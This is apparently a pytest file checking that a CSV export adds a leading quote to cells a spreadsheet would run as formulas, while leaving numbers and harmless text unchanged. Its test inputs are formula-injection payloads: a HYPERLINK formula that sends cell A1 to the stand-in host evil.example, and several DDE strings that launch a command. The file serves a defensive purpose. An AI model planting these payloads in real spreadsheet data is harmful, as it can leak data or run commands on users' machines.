"""CSV for people: text a spreadsheet would run as a formula gets a leading quote; nothing else changes.

Fails when a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return reaches the CSV as it
was, or when a number, or text that only contains those characters later on, is changed (issue 14,
point 8).
"""

from __future__ import annotations

import csv

import polars as pl
import pytest

from assets.spreadsheet_csv import neutralise_formulas, write_spreadsheet_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-5",
        "=",
    ],
)
def test_text_starting_like_a_formula_gets_a_leading_quote(text):
    assert neutralise_formulas(pl.DataFrame({"name": [text]}))["name"].to_list() == [f"'{text}"]


@pytest.mark.parametrize(
    "text",
    [
        "Smith = Jones + Co",
        "North-East",
        "a@b.example",
        "'=already quoted",
        "",
    ],
)
def test_text_not_starting_like_a_formula_is_kept(text):
    assert neutralise_formulas(pl.DataFrame({"name": [text]}))["name"].to_list() == [text]


def test_numbers_dates_booleans_and_nulls_are_kept():
    frame = pl.DataFrame(
        {
            "balance": [-12.5, 3.0],
            "change": [-3, 4],
            "on": [True, False],
            "period": pl.Series(["2024-01-01", "2024-02-01"]).str.to_date(),
            "note": [None, "-1"],
        }
    )
    neutralised = neutralise_formulas(frame)
    assert neutralised.drop("note").equals(frame.drop("note"))
    assert neutralised["note"].to_list() == [None, "'-1"]


def test_categorical_and_enum_text_is_neutralised_too():
    frame = pl.DataFrame(
        {
            "kind": pl.Series(["=NHS", "council"], dtype=pl.Categorical),
            "level": pl.Series(["@top", "low"], dtype=pl.Enum(["@top", "low"])),
        }
    )
    neutralised = neutralise_formulas(frame)
    assert neutralised["kind"].to_list() == ["'=NHS", "council"]
    assert neutralised["level"].to_list() == ["'@top", "low"]


def test_the_written_file_reads_back_as_neutralised_text(tmp_path):
    frame = pl.DataFrame({"name": ["=1+1", "a,\r\n=b", "plain"], "balance": [-1.5, -2.0, 3.0]})
    write_spreadsheet_csv(frame, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    assert rows == [["name", "balance"], ["'=1+1", "-1.5"], ["a,\r\n=b", "-2.0"], ["plain", "3.0"]]
